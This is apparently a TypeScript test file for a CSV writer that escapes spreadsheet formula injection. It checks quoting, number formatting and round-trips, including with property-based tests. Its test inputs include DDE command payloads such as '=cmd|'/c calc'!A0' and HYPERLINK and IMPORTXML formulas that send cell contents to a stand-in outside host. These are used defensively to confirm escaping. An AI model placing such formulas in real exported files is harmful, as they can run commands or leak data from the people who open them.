import * as fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvCell, formatCsv, isFormula, unguarded, type CsvCell } from '../../src/model/csv.ts';

/** Reads a file back with a reader that is not ours; a guarding apostrophe is taken off. */
function readBack(text: string): string[][] {
  const rows = parse(text, { bom: true, relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
  return rows.map((row) => row.map(unguarded));
}

describe('a text that a spreadsheet would calculate', () => {
  test.each([
    '=1+1', '+82-2-000-0000', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠a', '﹦1', '﹢1', '﹣1', '﹫a', '−1',
    ' =1', '  +1', '\u00a0=1', '\u3000=1', '"=1', "'=1", '"\'"=1', '“=1”', '\u200b=1', '\ufeff=1', '\u0000=1',
    '=cmd|\'/c calc\'!A0', '=HYPERLINK("https://elsewhere.example/?"&A1,"열기")', '@import', '-2+3+cmd|\' /C calc\'!A0', '=IMPORTXML(CONCAT("https://elsewhere.example/",A1),"//a")',
  ])('%j is text', (text) => {
    expect(isFormula(text)).toBe(true);
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
    expect(readBack(`${csvCell(text)}\r\n`)).toEqual([[text]]);
  });

  test.each(['공원 정비', '1-2', 'a=b', '(=1)', "'묶음'", '', '10%', '·-', '1'])('%j stays as it is', (text) => {
    expect(isFormula(text)).toBe(false);
    expect(csvCell(text)).toBe(text);
  });
});

describe('cells', () => {
  test.each<[string, CsvCell, string]>([
    ['nothing', null, ''], ['zero', 0, '0'], ['a refund', -12_000, '-12000'], ['won', { amount: -12_000, decimals: 0 }, '-12000'],
    ['pounds', { amount: 125_050, decimals: 2 }, '1250.50'], ['less than a pound', { amount: -5, decimals: 2 }, '-0.05'], ['a text that is a number', '-12000', "'-12000"],
    ['a comma', 'a,b', '"a,b"'], ['quotes', 'a "b"', '"a ""b"""'], ['lines', 'a\r\nb', '"a\r\nb"'], ['a semicolon', 'a;b', '"a;b"'], ['spaces at the ends', ' a ', '" a "'],
    ['half a sign', 'a\ud800', 'a\ufffd'],
  ])('%s', (_, value, expected) => expect(csvCell(value)).toBe(expected));

  test.each([Number.NaN, Infinity, 1.5, 2 ** 53])('%d is no number of a record', (value) => {
    expect(() => csvCell(value)).toThrow('csv: expected a safe integer with 0 to 3 decimals');
  });
});

test('a file: head, rows, CR LF, the mark for Excel', () => {
  expect(formatCsv([['이름', '금액'], ['=a', -1]], { hasMark: true })).toBe("\ufeff이름,금액\r\n'=a,-1\r\n");
  expect(formatCsv([])).toBe('');
});

test('rows of another length are refused', () => {
  expect(() => formatCsv([['a', 'b'], ['c']])).toThrow('csv:2: expected 2 cells, got 1');
});

test('of any table: read back it is the same, and no text begins a formula', () => {
  const text = fc.array(fc.oneof(fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\n', '\r', '\t', ' ', '＝', '가'), fc.string({ unit: 'grapheme', maxLength: 3 })), { maxLength: 6 }).map((parts) => parts.join(''));
  const table = fc.integer({ min: 1, max: 4 }).chain((width) => fc.array(fc.array(fc.oneof(text, fc.maxSafeInteger()), { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }));
  fc.assert(fc.property(table, fc.boolean(), (rows, hasMark) => {
    // A line of one empty cell is an empty line, which readers skip.
    const shown = rows.filter((row) => row.length > 1 || row[0] !== '');
    const written = formatCsv(shown, { hasMark });
    expect(readBack(written)).toEqual(shown.map((row) => row.map((cell) => String(cell).toWellFormed())));
    for (const [at, row] of (parse(written, { bom: true, record_delimiter: '\r\n' }) as string[][]).entries()) {
      for (const [column, cell] of row.entries()) if (typeof shown[at]![column] === 'string') expect(cell.startsWith("'") || !isFormula(cell)).toBe(true);
    }
  }), { seed: 5, numRuns: 1_000 });
});
